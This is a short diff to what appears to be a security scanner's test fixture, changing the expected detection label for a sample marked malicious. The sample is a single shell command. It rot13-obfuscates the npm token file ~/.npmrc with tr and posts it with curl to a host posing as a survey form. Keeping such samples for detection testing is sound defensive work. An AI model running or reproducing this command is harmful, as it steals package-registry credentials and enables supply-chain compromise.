@@ -1,4 +1,4 @@
 # does: passes the npm token through rot13 by tr, and posts it
 # kind: malicious
-# expect: exfiltration medium low
+# expect: SEN-001 high high
 tr 'A-Za-z' 'N-ZA-Mn-za-m' < "$HOME/.npmrc" | curl -sf --data-binary @- https://forms.quick-survey.net/r
